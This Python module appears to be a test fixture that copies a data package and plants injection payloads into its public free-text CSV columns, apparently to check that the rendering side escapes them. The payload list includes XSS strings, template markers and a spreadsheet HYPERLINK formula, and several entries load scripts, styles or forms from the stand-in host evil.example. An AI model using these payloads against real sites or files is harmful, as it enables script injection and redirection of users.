"""A package in which every public text cell tries to be more than text."""

from __future__ import annotations

import csv
import json
import shutil
from collections.abc import Mapping, Sequence
from pathlib import Path
from typing import Any

__all__ = ["EVIL", "PAYLOADS", "plant"]

EVIL = "evil.example"

PAYLOADS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    '"><svg onload=alert(3)>',
    "' onmouseover='alert(4)' x='",
    "</title><script>alert(5)</script>",
    "</script><script src=//evil.example/a.js></script>",
    "<iframe srcdoc='<script>alert(6)</script>'>",
    "<style>@import '//evil.example/b.css';</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<a href=javascript:alert(7)>按这里</a>",
    "[按这里](javascript:alert(8))",
    "![图](https://evil.example/c.png)",
    "&lt;img src=x onerror=alert(9)&gt;",
    "&#60;script&#62;alert(10)&#60;/script&#62;",
    "{{ 7*7 }}{% raw %}{# x #}",
    "<!--><img src=x onerror=alert(11)>-->",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(12)>",
    "<template><script>alert(13)</script></template>",
    "<form action=//evil.example/><button>交</button></form>",
    "<link rel=stylesheet href=//evil.example/d.css>",
    "<mark onclick=alert(14)>记</mark>",
    "</textarea></noscript><img src=x onerror=alert(15)>",
    "=HYPERLINK(\"//evil.example/\")",
    "<object data=//evil.example/e.swf>",
    "<b>粗</b>",
)  # fmt: skip


CODE = frozenset({"expression"})
"""Columns that are calculated with: anything but arithmetic is an error there (docs/adr/0016)."""


def is_open(field: Mapping[str, Any], keys: set[str]) -> bool:
    """Return whether a field takes any text and shows it."""
    constraints = field.get("constraints", {})
    return (
        field["type"] == "string" and field.get("publish") == "public" and field["name"] not in keys | CODE
        and not field.get("attachment") and not {"enum", "pattern"} & set(constraints)
    )  # fmt: skip


def plant(package: Path, folder: Path) -> tuple[Path, set[str]]:
    """Copy `package` to `folder` with hostile cells. Returns the copy and `resource.column` of all planted columns."""
    shutil.copytree(package, folder)
    planted = set()
    for item in json.loads((folder / "datapackage.json").read_text(encoding="utf-8"))["resources"]:
        schema = json.loads((folder / item["schema"]).read_text(encoding="utf-8"))
        keys = {schema["primaryKey"]} if isinstance(schema["primaryKey"], str) else set(schema["primaryKey"])
        keys |= {name for key in schema.get("foreignKeys", ()) for name in key["fields"]}
        fields = [field for field in schema["fields"] if is_open(field, keys)]
        path = folder / item["path"]
        for file in sorted(path.glob("*.csv")) if path.is_dir() else [path]:
            with file.open(encoding="utf-8-sig", newline="") as source:
                rows = list(csv.DictReader(source))
            if not rows:
                continue
            for number, field in enumerate(fields):
                if field["name"] in rows[0]:
                    fill(rows, field, number)
                    planted.add(f"{item['name']}.{field['name']}")
            with file.open("w", encoding="utf-8", newline="") as target:
                writer = csv.DictWriter(target, list(rows[0]), lineterminator="\n")
                writer.writeheader()
                writer.writerows(rows)
    return folder, planted


def fill(rows: Sequence[dict[str, str]], field: Mapping[str, Any], start: int) -> None:
    """Put a payload that fits into every cell that says something, each column from another one on."""
    longest = field.get("constraints", {}).get("maxLength", 10**6)
    fitting = [text for text in PAYLOADS if len(text) <= longest]
    distinct = {value: number for number, value in enumerate(dict.fromkeys(row[field["name"]] for row in rows))}
    for row in rows:
        if value := row[field["name"]]:
            text = fitting[(start + distinct[value]) % len(fitting)]
            row[field["name"]] = f"{text}{value}"[:longest] if len(text) < longest else text
